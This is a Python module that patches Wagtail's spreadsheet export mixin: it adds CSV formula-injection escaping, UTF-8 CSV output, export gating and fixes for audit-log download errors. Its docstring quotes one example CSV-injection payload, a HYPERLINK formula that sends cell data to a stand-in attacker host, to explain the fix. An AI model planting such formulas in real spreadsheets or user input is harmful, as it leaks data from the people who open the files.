"""The one place where Wagtail 7.4's spreadsheet downloads (``SpreadsheetExportMixin``) are patched, for every admin
listing at once: ours, Wagtail's own (images, documents, sites, collections, workflows, tasks, the page explorer,
its reports) and any package's.

1. **Only the downloads a listing offers.** Wagtail decides ``is_export`` in ``SpreadsheetExportMixin.setup`` as
   ``request.GET["export"] in FORMATS``, whether or not the listing shows its "Download CSV" and "Download XLSX"
   buttons (``show_export_buttons``, which is ``bool(list_export)``). A listing without export columns (images,
   sites, team accounts...) answered a hand-typed ``?export=csv`` with a file of one empty line per row.
   ``is_export`` is now true only where the listing offers the download; elsewhere ``?export=`` shows the ordinary
   listing. It is read when first used (pagination, the response), after the view's own ``setup`` and
   ``dispatch``, so a view that settles its buttons there is asked once it has. No hook, viewset option or
   middleware reaches this: Wagtail's own listings are built inside Wagtail, and a middleware would have to build
   each view a second time to know whether it shows buttons.

2. **CSV injection** (OWASP). Anyone may write a page feedback comment such as
   ``=HYPERLINK("http://evil.example/?"&A1,"Click")``; Wagtail writes it into the CSV unchanged, and Excel or
   LibreOffice run it as a formula when an editor opens the file. A text value that begins with ``=``, ``+``,
   ``-``, ``@``, a tab or a carriage return gets a leading ``'``, so the spreadsheet shows it as text. Wagtail's
   Excel download is safe already (it stores such a cell as text). Wagtail writes every CSV cell through
   ``SpreadsheetExportMixin.preprocess_field_value`` (called by ``write_csv_row``), whatever the view; ``apply``
   wraps that one method, so no view can forget it.

3. **Excel reads the CSV as UTF-8.** Wagtail sends the CSV as ``text/csv`` with no charset and no byte order mark,
   so Excel, opening the file by double-click, reads it in the computer's code page: "St Ælfric's" showed as
   "St Ã†lfric's". Every CSV download is now ``text/csv; charset=utf-8`` and starts with the UTF-8 byte order mark,
   which is how Excel knows. Wagtail builds the CSV response in ``SpreadsheetExportMixin.write_csv_response``
   (a ``StreamingHttpResponse`` over ``stream_csv``'s lines), whatever the view; ``apply`` wraps that one method.

4. **Lazy words reach the Excel download as text.** Wagtail hands some cells over as lazy translations, not
   strings: the site history's Type of an entry whose content type is gone (its model removed, or its stale
   content type deleted, so the entry's ``content_type`` is null) is ``get_content_type_label(None)``, a lazy
   "Unknown content type", which openpyxl refuses ("Cannot convert 'Unknown content type' to Excel"): the whole
   Excel download of the site history answered 500 while one such entry was in it. The CSV was right, as the
   csv module calls ``str()``. ``apply`` makes every lazy value text, in both formats, in the same wrapped method.

5. **An action no longer registered.** The site history's downloads name each entry's action through
   ``LogEntriesView.get_action_label``, which reads the log action registry and raises ``KeyError`` for an action
   nothing registers any more (an entry written by an app since removed, or by an older Wagtail): the Excel
   download answered 500 and the CSV stopped at that row. The screen says "Unknown <action>" (the entry's
   ``message``); ``apply`` has the downloads say the same, from Wagtail's own words.

6. **The downloads' names.** Wagtail's buttons say "Download XLSX" and "Download CSV"; the portal's own say
   "Download as JSON", and the audit log's refusal "The Excel download": ``apply`` names them "Download as Excel"
   and "Download as CSV" (``DOWNLOAD_WORDS``), and marks them ``data-portal-download`` for download-once.js, which
   says "Preparing your download…" and ignores a second press while the first is being written (the audit log's
   takes 17 to 19 seconds at a large council).

tests/cms/test_csv_exports.py, tests/cms/test_listing_exports.py and tests/cms/test_site_history.py fail when Wagtail
decides any of these another way.
"""

import datetime
import itertools
from decimal import Decimal

from django.utils.functional import Promise, cached_property
from django.utils.translation import gettext_lazy as _

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Written as they are: none is text a person typed (a negative number is a number to a spreadsheet too).
NOT_TEXT = (bool, int, float, Decimal, datetime.date, datetime.time, datetime.timedelta, type(None))
DOWNLOAD_WORDS = {"xlsx": "Download as Excel", "csv": "Download as CSV"}
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
UTF8_BOM = "\ufeff".encode()


def csv_safe(value):
    """``value`` as a spreadsheet shows it, never run: text that a spreadsheet would read as a formula is prefixed
    with ``'``. That is any value's text, not only a string's: the CSV holds the text of an object (the user in
    Wagtail's locked pages report, a lazy translation), which a person may have written. Numbers, dates, times,
    booleans and None, and text that is no formula, are returned as they are."""
    if isinstance(value, NOT_TEXT):
        return value
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else value


def _export_requested(view):
    """What Wagtail's ``setup`` decided from ``?export=`` alone (``export_requested``): a format of ``FORMATS``."""
    return view.__dict__.get("export_requested", False)


def _is_export(view):
    return _export_requested(view) and bool(view.show_export_buttons)


def _set_is_export(view, value):
    view.__dict__["export_requested"] = bool(value)


def apply():
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if not isinstance(SpreadsheetExportMixin.__dict__.get("is_export"), property):
        # Wagtail's setup assigns ``self.is_export``: the setter keeps what was asked, the getter adds the offer.
        SpreadsheetExportMixin.is_export = property(_is_export, _set_is_export)
    _apply_utf8_csv(SpreadsheetExportMixin)
    _apply_unknown_actions()
    _apply_download_words(SpreadsheetExportMixin)

    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "csv_safe", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        value = original(self, field, value, export_format)
        if isinstance(value, Promise):  # a lazy translation, which openpyxl cannot write
            value = str(value)
        return csv_safe(value) if export_format == SpreadsheetExportMixin.FORMAT_CSV else value

    preprocess_field_value.csv_safe = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value


def _apply_utf8_csv(mixin):
    original = mixin.write_csv_response
    if getattr(original, "utf8_csv", False):
        return

    def write_csv_response(self, queryset):
        response = original(self, queryset)
        response["Content-Type"] = CSV_CONTENT_TYPE
        response.streaming_content = itertools.chain([UTF8_BOM], response.streaming_content)
        return response

    write_csv_response.utf8_csv = True
    mixin.write_csv_response = write_csv_response


def _apply_unknown_actions():
    from wagtail.admin.views.reports.audit_logging import LogEntriesView
    from wagtail.log_actions import registry

    original = LogEntriesView.get_action_label
    if getattr(original, "unknown_action", False):
        return

    def get_action_label(self, action):
        if registry.action_exists(action):
            return original(self, action)
        return str(_("Unknown %(action)s") % {"action": action})  # as the screen says (BaseLogEntry.message)

    get_action_label.unknown_action = True
    LogEntriesView.get_action_label = get_action_label


def _apply_download_words(mixin):
    original = mixin.__dict__["header_more_buttons"]
    if getattr(original.func, "download_words", False):
        return

    def header_more_buttons(self):
        buttons = original.func(self)
        urls = {self.get_export_url(export): words for export, words in DOWNLOAD_WORDS.items()}
        for button in buttons:
            if button.url in urls:
                button.label = urls[button.url]
                button.attrs = {**button.attrs, "data-portal-download": ""}
        return buttons

    header_more_buttons.download_words = True
    words = cached_property(header_more_buttons)
    words.__set_name__(mixin, "header_more_buttons")
    mixin.header_more_buttons = words
